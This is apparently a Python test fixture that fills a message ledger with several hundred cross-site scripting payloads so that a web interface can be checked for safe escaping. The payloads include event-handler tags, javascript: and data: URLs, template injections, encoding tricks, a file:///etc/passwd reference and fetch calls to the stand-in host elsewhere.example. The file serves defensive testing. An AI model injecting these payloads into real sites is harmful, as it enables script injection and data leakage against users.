"""Texts that would run as code, or ask another origin, if the page made anything but text of them; and a ledger full of them.

Each payload shows itself: it opens a dialog, asks `elsewhere.example`, or is refused by the content security policy. A
window of `browsing.py` notes all three.
"""

from datetime import timedelta

from antiphon.agents.toolkit import Approval
from antiphon.ledger import Host, Ledger
from antiphon.messages import (
    Citation,
    DataPart,
    ForeignPart,
    MediaPart,
    Message,
    OptionCallPayload,
    OptionResultPayload,
    PartsPayload,
    ReasoningPart,
    TextPart,
    Usage,
    current_port,
)
from antiphon.messages._names import is_name

_HANDLERS = {
    "img src=x": "onerror",
    "svg": "onload",
    "body": "onload",
    "iframe src=about:blank": "onload",
    "video src=x": "onerror",
    "audio src=x": "onerror",
    "input autofocus": "onfocus",
    "details open": "ontoggle",
    "object data=x": "onerror",
    "embed src=x": "onload",
    "marquee": "onstart",
    "select autofocus": "onfocus",
    "textarea autofocus": "onfocus",
    "a tabindex=0 autofocus": "onfocus",
    "style": "onload",
    "link rel=stylesheet href=x": "onerror",
    "script src=x": "onerror",
    "video><source": "onerror",
    "svg><animate attributeName=x dur=1s": "onbegin",
    "math><maction actiontype=toggle": "onclick",
    "form": "onformdata",
    "dialog open": "onclose",
    "keygen autofocus": "onfocus",
    "button autofocus": "onfocus",
    "track src=x": "onerror",
}
_BREAKOUTS = (
    *("", '">', "'>", "`>", "-->", "]]>", "*/", "<!--", "\x00", "</script>", "</textarea>", "</title>", "</style>"),
    *("</noscript>", "</iframe>", "</template>", "</svg>", "</math>", "</pre>", "</code>", "</select>", "</option>"),
)
_URLS = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "\x01javascript:alert(1)",
    "javascript://elsewhere.example/%0aalert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "vbscript:alert(1)",
    "//elsewhere.example/a.png",
    "https://elsewhere.example/a.png?q=1",
    "http://elsewhere.example:1/",
    "\\\\elsewhere.example\\share",
    "blob:https://elsewhere.example/1",
    "file:///etc/passwd",
    "ws://elsewhere.example/",
)
_ELEMENTS = (
    "<script>alert(1)</script>",
    "<script src=//elsewhere.example/x.js></script>",
    "<script type=module>import('https://elsewhere.example/x.js')</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x0c>alert(1)</script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='https://elsewhere.example/x.swf'>",
    "<img src='https://elsewhere.example/pixel.gif'>",
    "<img srcset='https://elsewhere.example/1.png 1x'>",
    "<picture><source srcset='//elsewhere.example/2.png'><img></picture>",
    "<link rel=stylesheet href='https://elsewhere.example/x.css'>",
    "<link rel=prefetch href='https://elsewhere.example/'>",
    "<style>@import 'https://elsewhere.example/x.css';</style>",
    "<div style='background:url(https://elsewhere.example/x.png)'>x</div>",
    "<base href='https://elsewhere.example/'>",
    "<meta http-equiv=refresh content='0;url=https://elsewhere.example/'>",
    "<form action='https://elsewhere.example/'><input type=submit autofocus></form>",
    "<a href='javascript:alert(1)' autofocus>x</a>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><use href='https://elsewhere.example/x.svg#a'/></svg>",
    "<svg><image href='https://elsewhere.example/x.png'/></svg>",
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
    "<table background='https://elsewhere.example/x.png'>",
    "<video poster='https://elsewhere.example/x.png'></video>",
    "<bgsound src='javascript:alert(1)'>",
    "<x contenteditable onblur=alert(1)>x</x>",
    "<slot onslotchange=alert(1)><b slot></b></slot>",
    "<portal src='https://elsewhere.example/'></portal>",
)
_TEMPLATES = (
    "${alert(1)}",
    "{{constructor.constructor('alert(1)')()}}",
    "<%= alert(1) %>",
    "#{alert(1)}",
    "{{{alert(1)}}}",
    "html`<script>alert(1)</script>`",
    "';alert(1);//",
    '";alert(1);//',
    "\\';alert(1);//",
    "</script><script>alert(1)</script>",
    "\u2028alert(1)\u2028",
    "[x](javascript:alert(1))",
    "![x](https://elsewhere.example/x.png)",
    "[x]: https://elsewhere.example/ 'x'",
    "<https://elsewhere.example/>",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "%3Cimg%20src=x%20onerror=alert(1)%3E",
    "\\u003cimg src=x onerror=alert(1)\\u003e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\ufeff<img src=x onerror=alert(1)>",
    "\u202e<img src=x onerror=alert(1)>",
    "<\u200bimg src=x onerror=alert(1)>",
    "\x1b]8;;https://elsewhere.example/\x07x\x1b]8;;\x07",
    "__proto__",
    "constructor",
    '{"type":"script","props":{"children":"alert(1)"},"key":null}',
    '"}]}</script><script>alert(1)</script>',
    "event: end\ndata: {}\n\n",
    "\r\n\r\n<script>alert(1)</script>",
)

PAYLOADS: tuple[str, ...] = tuple(
    dict.fromkeys(
        (
            *(f"<{element} {handler}=alert(1)>" for element, handler in _HANDLERS.items()),
            *(
                f"{breakout}<img src=//elsewhere.example/{number} onerror=alert(1)>"
                for number, breakout in enumerate(_BREAKOUTS)
            ),
            *(f"<svg/onload=fetch('//elsewhere.example/{number}')>{quote}" for number, quote in enumerate(_BREAKOUTS)),
            *(f"{quote} autofocus onfocus=alert(1) x={quote}" for quote in ('"', "'", "`", "")),
            *_URLS,
            *_ELEMENTS,
            *_TEMPLATES,
        )
    )
)


def as_name(payload: str, kind: str = "") -> str:
    """Return the payload as a name, if it is a valid one; or else in a form that is."""
    name = f"{kind}{payload}"
    return name if is_name(name) else f"{kind}{payload!r}"


async def fill(ledger: Ledger, payloads: tuple[str, ...] = PAYLOADS) -> None:
    """Write every payload into every field of a message, of a thread, of an approval and of a host."""
    for number, payload in enumerate(payloads):
        messages = messages_with(payload, number)
        await ledger.append("all", messages[:3])
        await ledger.append("models", messages[3:])
        own = as_name(payload, f"{number} ")
        asked = approval(payload, number, own)
        await ledger.append(own, [messages[0], asked.question()], status=as_name(payload), pattern=as_name(payload))
    await ledger.append("all", [], status="completed")
    for number, payload in enumerate(payloads[:10]):
        name = as_name(payload, f"{number} ")
        await ledger.beat(Host(name=name, instance=f"i{number}", build=as_name(payload), kinds=(as_name(payload),)))


def messages_with(payload: str, number: int) -> list[Message]:
    """Return messages that have the payload in every field that can hold it."""
    name, key = as_name(payload), payload
    said = PartsPayload(
        parts=(
            TextPart(text=payload, citations=(Citation(url=payload, title=payload, source=payload, quote=payload),)),
            ReasoningPart(text=payload, signature=payload),
            DataPart(data={key: [payload, {key: payload}]}),
            ForeignPart(dialect=name, value={"type": payload, "html": payload}),
            MediaPart(modality="image", url=media_url(payload, number), mime=payload, prompt_hint=payload),
        )
    )
    call = OptionCallPayload(
        invocation_id=f"c{number} {name}"[:500], option_name=name, arguments={key: payload, "nested": [payload]}
    )
    failed = OptionResultPayload(
        invocation_id=call.invocation_id,
        option_name=name,
        is_error=True,
        error_type=name,
        error_message=payload,
        retryable=True,
    )
    ask = OptionCallPayload(
        invocation_id=f"m{number}", option_name="ask", arguments={"arguments": {"model": payload, "prompt": payload}}
    )
    end = OptionResultPayload(invocation_id=f"m{number}", option_name="ask", result={"messages": payload})
    return [
        Message(
            policy=name, payload=said, to=(name,), turn_id=name, metadata={name: {key: payload}}, usage=Usage(input_tokens=1)
        ),
        Message(policy=name, payload=call, to=(name,)),
        Message(policy=name, payload=failed, in_reply_to=name),
        Message(policy=name, lane="effect", payload=ask),
        Message(policy="ask", lane="effect", payload=end),
    ]


def media_url(payload: str, number: int) -> str:
    """Return a URL that a medium may have, with the payload in it."""
    for url in (payload, f"https://elsewhere.example/{number}?{payload}", f"data:image/svg+xml,{payload}"):
        try:
            return MediaPart(modality="image", url=url).url
        except ValueError:
            continue
    return f"https://elsewhere.example/{number}.png"


def approval(payload: str, number: int, thread_id: str) -> Approval:
    ends = current_port().now() + timedelta(hours=1)
    name = as_name(payload)
    return Approval(f"approval-{number}", thread_id, name, name, {payload: payload}, "d" * 64, payload, ends, ())
